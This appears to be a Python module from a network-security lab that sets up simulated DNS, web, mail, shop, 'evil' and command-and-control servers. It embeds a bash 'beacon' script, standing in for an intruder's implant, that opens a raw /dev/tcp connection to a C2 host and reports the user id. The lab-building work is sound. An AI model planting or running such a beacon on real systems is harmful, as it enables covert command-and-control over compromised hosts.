"""Which real servers run on which host of the lab, and how each is started."""

from __future__ import annotations

import shutil
import sys
from dataclasses import dataclass
from pathlib import Path

from sekisho_edge.lab import site

_PROGRAMS = "sekisho_edge.lab.programs"
_BEACON = """#!/bin/bash
# What the intruder of the lab leaves behind: calls home a few times and does nothing else.
host="$1" port="$2"
for turn in 1 2 3; do
  exec 3<>"/dev/tcp/$host/$port" || exit 1
  printf 'GET /gate/tasks?turn=%s HTTP/1.1\\r\\nHost: %s:%s\\r\\n' "$turn" "$host" "$port" >&3
  printf 'User-Agent: sekisho-lab-beacon/1.0\\r\\nX-Agent: %s\\r\\nConnection: close\\r\\n\\r\\n' "$(id -u)" >&3
  timeout 3 cat <&3 >/dev/null
  exec 3>&-
done
echo "beacon done"
"""
HELLO_KEY_RECORD = "0001000001000302683200050008" + "0006fe0d00020101"
"""An HTTPS record (RFC 9460) as servers publish it: alpn h2, and a key of an encrypted hello."""
_TOOLS = ("id", "uname", "hostname", "getent")


@dataclass(frozen=True)
class Program:
    """One server. ``ready`` is what it writes once it listens."""

    name: str
    host: str
    argv: list[str]
    ready: bytes = b"ready\n"


def programs(folder: Path) -> list[Program]:
    """Every server. Writes what they need into the lab's folder."""
    tools = _tools(folder / "bin")
    return [
        Program("dns", "dns", _dns(folder), ready=b"started, version"),
        Program("www", "www", [*_python("web"), "www", "80"]),
        Program("sns", "sns", [*_python("web"), "sns", "80"]),
        Program("evil", "attacker", [*_python("web"), "evil", "80"]),
        Program("c2", "attacker", [*_python("web"), "c2", str(site.BEACON_PORT)]),
        Program("mail", "mail", [*_python("mail"), site.MAIL_ADDRESS, str(folder / "mail")]),
        Program("shop", "server", [*_python("shop"), str(site.SERVER_PORT), str(tools)]),
    ]


def missing() -> list[str]:
    """Programs that the lab needs and this machine lacks."""
    needed = ("ip", "nft", "setpriv", "dnsmasq", "rbash", "timeout", *_TOOLS)
    return [name for name in needed if shutil.which(name) is None and shutil.which(f"/usr/sbin/{name}") is None]


def _python(module):
    return [sys.executable, "-u", "-m", f"{_PROGRAMS}.{module}"]


def _dns(folder):
    """dnsmasq as the Internet's name server."""
    options = ["--keep-in-foreground", "--no-resolv", "--no-hosts", "--conf-file=/dev/null", "--user=", "--group="]
    options += ["--local=/example/", "--listen-address=" + site.DNS_ADDRESS, "--bind-interfaces", "--log-facility=-"]
    options += [f"--pid-file={folder / 'dns.pid'}"]
    options += [f"--host-record={name},{address}" for name, address in site.NAMES.items()]
    options += [f"--dns-rr={name},65,{HELLO_KEY_RECORD}" for name in ("www.lab.example", "sns.lab.example")]
    options += ["--mx-host=lab.example,mail.lab.example,10", "--txt-record=lab.example,v=spf1 mx -all"]
    return ["dnsmasq", *options]


def _tools(folder):
    """The only programs that an intruder on the server can reach: readers of harmless facts, and the beacon."""
    folder.mkdir(parents=True)
    for name in _TOOLS:
        if path := shutil.which(name):
            (folder / name).symlink_to(path)
    beacon = folder / "beacon"
    beacon.write_text(_BEACON)
    beacon.chmod(0o755)
    folder.chmod(0o755)
    return folder
